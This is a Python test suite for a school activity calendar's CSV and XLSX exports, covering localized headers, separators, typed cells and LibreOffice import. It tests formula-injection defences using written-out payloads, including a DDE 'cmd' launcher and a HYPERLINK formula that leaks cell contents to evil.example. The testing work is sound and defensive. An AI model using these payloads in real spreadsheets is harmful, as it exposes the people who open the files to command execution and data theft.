"""The public calendar's CSV and XLSX exports: typed cells, the reader's separator, safety.

The LibreOffice tests open the very files a reader downloads, as the reader's spreadsheet
would; they run wherever ``soffice`` is (always in CI, see :mod:`tests.support.spreadsheets`).
"""

from __future__ import annotations

import html
import re
from datetime import datetime

import pytest

from app.activities.enums import ActivityStatus, ActivityType
from app.activities.models import ActivityLanguage
from app.core.i18n import country_name
from app.core.workbooks import MAX_WIDTH
from tests.activities.test_calendar import YEAR, at, region
from tests.support.spreadsheets import (
    BOM,
    cells,
    csv_rows,
    download_form,
    workbook,
    xlsx_rows,
)

ENGLISH_HEADERS = [
    "Start",
    "End",
    "Time zone",
    "Type",
    "Title",
    "School",
    "Region",
    "Country",
    "How people take part",
    "Pillars",
    "Languages",
    "Status",
    "Teachers",
    "School leaders",
    "Students",
    "Parents",
]
TITLE, SCHOOL = 4, 5
INJECTION = "Open day;=cmd|' /C calc'!A0;"
NEUTRALISED = "Open day;'=cmd|' /C calc'!A0;"  # in CSV: no formula after the semicolon
DANGEROUS_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed title",
    "\rCarriage return",
    " =1+1",
]
EVIL_SCHOOL = "=cmd|' /C calc'!A0"


@pytest.fixture
def istanbul(make, db_session):
    return make.school("TR", name="Kadıköy Anadolu Lisesi", region=region(db_session, "TR-34"))


@pytest.fixture
def exported(make, istanbul):
    """One held activity with participants, one ordinary and the dangerous ones."""
    make.activity(
        istanbul,
        starts_at=at(2, 1, 7, 0),
        title="Held workshop",
        status=ActivityStatus.HELD,
        participants_teachers=12,
        participants_leaders=2,
        participants_students=40,
        participants_parents=0,
        languages=[ActivityLanguage(language="tr")],
    )
    for number, title in enumerate([*DANGEROUS_TITLES, INJECTION]):
        make.activity(istanbul, starts_at=at(2, 2 + number), title=title)
    make.activity(istanbul, starts_at=at(2, 20), title="Harmless = title")
    evil_school = make.school("TR", name=EVIL_SCHOOL)
    make.activity(evil_school, starts_at=at(2, 21), title="From the evil school")


def _export(client, fmt: str, lang: str = "en", query: str = ""):
    return client.get(f"/calendar/TR/export.{fmt}{query}", headers={"Accept-Language": lang})


def _row(rows, title: str):
    return next(row for row in rows if row[TITLE] == title)


# Headers and values ---------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_have_english_headers_by_default(client, exported, fmt):
    response = _export(client, fmt)
    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    assert list(rows[0]) == ENGLISH_HEADERS
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="activities-TR-')
    assert disposition.endswith(f'.{fmt}"')


def test_csv_is_in_the_readers_language_with_iso_dates(client, exported):
    rows = csv_rows(_export(client, "csv", "nb"), delimiter=";")
    headers = rows[0]
    assert headers[12:16] == ["Lærere", "Skoleledere", "Elever", "Foreldre"]
    assert "Teachers" not in headers
    held = _row(rows, "Held workshop")
    # 07:00 UTC is 10:00 in Istanbul; ISO dates read as dates in every locale's spreadsheet
    assert held[:4] == [f"{YEAR}-02-01 10:00", f"{YEAR}-02-01 12:00", "Europe/Istanbul", "Åpen dag"]
    assert held[12:16] == ["12", "2", "40", "0"]
    planned = _row(rows, "Harmless = title")
    assert planned[12:16] == ["", "", "", ""]


@pytest.mark.parametrize(
    ("lang", "shown"),
    [("en", "m/d/yyyy h:mm AM/PM"), ("nl", "dd-mm-yyyy hh:mm"), ("nb", "dd.mm.yyyy hh:mm")],
)
def test_xlsx_holds_local_datetimes_and_numbers_as_typed_cells(client, exported, lang, shown):
    response = _export(client, "xlsx", lang)
    assert response.status_code == 200
    sheet = workbook(response.get_data()).worksheets[0]
    held = next(row for row in sheet.iter_rows(min_row=2) if row[TITLE].value == "Held workshop")
    start, end, zone = held[0], held[1], held[2]
    assert start.value == datetime(YEAR, 2, 1, 10, 0)  # naive, Istanbul's wall clock
    assert end.value == datetime(YEAR, 2, 1, 12, 0)
    assert (start.data_type, start.is_date, start.number_format) == ("d", True, shown)
    assert end.number_format == shown
    assert zone.value == "Europe/Istanbul"
    assert [(cell.value, cell.data_type) for cell in held[12:16]] == [
        (12, "n"),
        (2, "n"),
        (40, "n"),
        (0, "n"),
    ]
    planned = next(row for row in sheet.iter_rows(min_row=2) if row[TITLE].value == "+SUM(1,2)")
    assert [cell.value for cell in planned[12:16]] == [None, None, None, None]


def test_xlsx_has_a_frozen_bold_header_a_filter_and_fitted_columns(client, exported):
    sheet = workbook(_export(client, "xlsx").get_data()).worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:P{sheet.max_row}"
    assert sheet.max_row == 1 + 2 + len(DANGEROUS_TITLES) + 2
    assert all(cell.font.b for cell in sheet[1])
    assert not any(cell.font.b for cell in sheet[2])
    widths = {column: sheet.column_dimensions[column].width for column in "ABCDEFMP"}
    assert all(6 <= width <= MAX_WIDTH for width in widths.values()), widths
    assert widths["E"] > len('=HYPERLINK("https://evil.example/?leak="&A1,"Click")')  # titles
    assert widths["A"] >= len("2026-02-01 10:00 AM")  # the date and time fit
    assert widths["M"] < widths["E"]


def test_xlsx_sheet_is_named_after_the_calendar(client, exported):
    for lang in ("en", "nl", "tr"):
        sheet = workbook(_export(client, "xlsx", lang).get_data()).worksheets[0]
        assert country_name("TR", lang) in sheet.title
        assert len(sheet.title) <= 31
    assert sheet.title == "Türkiye aktiviteleri"


def test_exports_apply_the_filters(client, exported, make, db_session):
    ankara = make.school("TR", name="Çankaya Fen Lisesi", region=region(db_session, "TR-06"))
    make.activity(ankara, starts_at=at(2, 1), title="Ankara only", type=ActivityType.INFO_SESSION)
    rows = csv_rows(_export(client, "csv", query="?region=TR-06"))
    assert [row[TITLE] for row in rows[1:]] == ["Ankara only"]
    rows = csv_rows(_export(client, "csv", query="?type=info_session"))
    assert [row[TITLE] for row in rows[1:]] == ["Ankara only"]


# Formulas -------------------------------------------------------------------------


def test_csv_neutralises_formulas_with_an_apostrophe(client, exported):
    rows = csv_rows(_export(client, "csv"))
    titles = [row[TITLE] for row in rows[1:]]
    for title in DANGEROUS_TITLES:
        assert "'" + title in titles
        assert title not in titles
    assert "Harmless = title" in titles
    assert NEUTRALISED in titles  # after the separator a reader may split on
    assert _row(rows, "From the evil school")[SCHOOL] == "'" + EVIL_SCHOOL


def test_xlsx_keeps_formulas_as_text_cells_without_a_visible_mark(client, exported):
    sheet = workbook(_export(client, "xlsx").get_data()).worksheets[0]
    assert not [cell.coordinate for cell in cells(sheet) if cell.data_type == "f"]
    titles = {row[TITLE].value: row[TITLE] for row in sheet.iter_rows(min_row=2)}
    for title in DANGEROUS_TITLES:
        cell = titles[title.replace("\r", "\n")]  # XML keeps no carriage returns in text
        assert (cell.data_type, cell.quotePrefix) == ("s", True), title
    assert titles[INJECTION].quotePrefix is False  # text, and no formula at its start
    assert titles["Harmless = title"].quotePrefix is False
    evil = next(row for row in sheet.iter_rows(min_row=2) if row[SCHOOL].value == EVIL_SCHOOL)
    assert (evil[SCHOOL].data_type, evil[SCHOOL].quotePrefix) == ("s", True)


# The separator --------------------------------------------------------------------


def _first_lines(response) -> list[str]:
    raw = response.get_data()
    assert raw.startswith(BOM)
    return raw.decode("utf-8-sig").split("\r\n")


@pytest.mark.parametrize(
    ("lang", "separator"), [("en", ","), ("nl", ";"), ("nb", ";"), ("ro", ";"), ("tr", ";")]
)
def test_csv_separator_is_the_one_the_readers_excel_expects(client, exported, lang, separator):
    lines = _first_lines(_export(client, "csv", lang))
    assert lines[0].startswith(f'"{_header_start(lang)}"{separator}"')
    held = next(line for line in lines if '"Held workshop"' in line)
    # text is quoted, numbers are not
    assert held.startswith(f'"{YEAR}-02-01 10:00"{separator}"{YEAR}-02-01 12:00"{separator}')
    assert held.endswith(f"{separator}12{separator}2{separator}40{separator}0")


def _header_start(lang: str) -> str:
    return {"en": "Start", "nl": "Begin", "nb": "Start", "ro": "Început", "tr": "Başlangıç"}[lang]


@pytest.mark.parametrize(
    ("lang", "sep", "separator"),
    [("nl", "comma", ","), ("en", "semicolon", ";"), ("tr", "", ";"), ("en", "", ",")],
)
def test_the_reader_chooses_the_separator(client, exported, lang, sep, separator):
    rows = csv_rows(_export(client, "csv", lang, f"?sep={sep}&type=open_day"), separator)
    assert len(rows[0]) == len(ENGLISH_HEADERS)
    assert _row(rows, NEUTRALISED)[:3] == [
        f"{YEAR}-02-09 12:00",
        f"{YEAR}-02-09 14:00",
        "Europe/Istanbul",
    ]


@pytest.mark.parametrize("sep", ["tab", "%3B", "COMMA", "comma,semicolon"])
def test_a_bad_separator_is_a_400_in_the_readers_language(client, exported, sep):
    response = _export(client, "csv", "nl", f"?sep={sep}")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    body = html.unescape(response.get_data(as_text=True))
    assert "Het scheidingsteken van een CSV-bestand" in body
    assert _export(client, "xlsx", "nl", f"?sep={sep}").status_code == 200  # no CSV, no separator


# The page's controls --------------------------------------------------------------


@pytest.mark.parametrize(("lang", "chosen"), [("en", "comma"), ("nl", "semicolon")])
def test_the_calendar_offers_both_separators_with_the_readers_chosen(client, lang, chosen):
    response = client.get("/calendar/TR?type=open_day&sep=comma", headers={"Accept-Language": lang})
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    form = download_form(page, "/calendar/TR/export.csv")
    assert '<input type="hidden" name="type" value="open_day">' in form
    assert 'name="sep" value=' not in form  # the select gives it, once
    options = re.findall(r'<option value="(\w+)" (selected)?', form)
    other = ({"comma", "semicolon"} - {chosen}).pop()
    assert sorted(options) == sorted([(chosen, "selected"), (other, "")])
    assert 'href="/calendar/TR/export.xlsx?type=open_day"' in page


# As LibreOffice opens them ---------------------------------------------------------

#: LibreOffice's CSV import options: separator (59 ``;``, 44 ``,``), text delimiter
#: (34 ``"``, 0 none: a naive split, as Excel does on a line it reads with another
#: separator), UTF-8, first line, ..., trim spaces, evaluate formulas: the import that
#: finds the most formulas.
CSV_IMPORT = "CSV:{separator},{quote},76,1,,0,false,true,false,false,true,-1,true"
CONTROL = "=1+1"


def _formulas_after_import(libreoffice, tmp_path, body: bytes, separator: int, quote: int):
    """The formula cells LibreOffice makes of ``body``, with a control line of our own
    that must become the one formula (so the check can see formulas)."""
    source = tmp_path / "export.csv"
    source.write_bytes(body + f"{CONTROL}{chr(separator)}control\r\n".encode())
    converted = libreoffice.convert(
        source, "xlsx", CSV_IMPORT.format(separator=separator, quote=quote)
    )
    sheet = workbook(converted.read_bytes()).worksheets[0]
    formulas = [cell.value for cell in cells(sheet) if cell.data_type == "f"]
    starts = [c.value for c in cells(sheet) if str(c.value or "").lstrip().startswith("=")]
    return sheet, formulas, starts


@pytest.mark.libreoffice
@pytest.mark.parametrize("quote", [34, 0], ids=["quoted", "naive-split"])
def test_a_comma_csv_opened_on_semicolons_has_no_formula(
    client, exported, libreoffice, tmp_path, quote
):
    body = _export(client, "csv", "en").get_data()  # comma-separated, as for English readers
    assert INJECTION.encode() in body.replace(b"'=", b"=")  # the title is in it, neutralised
    sheet, formulas, starts = _formulas_after_import(libreoffice, tmp_path, body, 59, quote)
    assert formulas == [CONTROL]
    assert starts == [CONTROL]
    assert sheet.max_row >= 1 + 2 + len(DANGEROUS_TITLES) + 2


@pytest.mark.libreoffice
def test_a_semicolon_csv_opens_with_its_values_and_no_formula(
    client, exported, libreoffice, tmp_path
):
    body = _export(client, "csv", "nl").get_data()
    sheet, formulas, _starts = _formulas_after_import(libreoffice, tmp_path, body, 59, 34)
    assert formulas == [CONTROL]
    rows = list(sheet.iter_rows(values_only=True))
    held = _row(rows, "Held workshop")
    assert held[:3] == (datetime(YEAR, 2, 1, 10, 0), datetime(YEAR, 2, 1, 12, 0), "Europe/Istanbul")
    assert held[12:16] == (12, 2, 40, 0)  # numbers, not text
    assert _row(rows, NEUTRALISED)[SCHOOL] == "Kadıköy Anadolu Lisesi"


@pytest.mark.libreoffice
def test_libreoffice_reads_the_xlsx_as_written(client, exported, libreoffice, tmp_path):
    body = _export(client, "xlsx", "nl").get_data()
    source = tmp_path / "export.xlsx"
    source.write_bytes(body)
    ours = workbook(body).worksheets[0]
    theirs = workbook(libreoffice.convert(source, "xlsx").read_bytes()).worksheets[0]
    assert theirs.title == ours.title
    assert theirs.auto_filter.ref == ours.auto_filter.ref

    def typed(sheet):
        return [[(c.value, c.data_type, c.is_date) for c in row] for row in sheet.iter_rows()]

    for theirs_row, ours_row in zip(typed(theirs), typed(ours), strict=True):
        assert theirs_row == ours_row
    held = next(row for row in theirs.iter_rows() if row[TITLE].value == "Held workshop")
    assert held[0].value == datetime(YEAR, 2, 1, 10, 0)
    assert held[12].value == 12
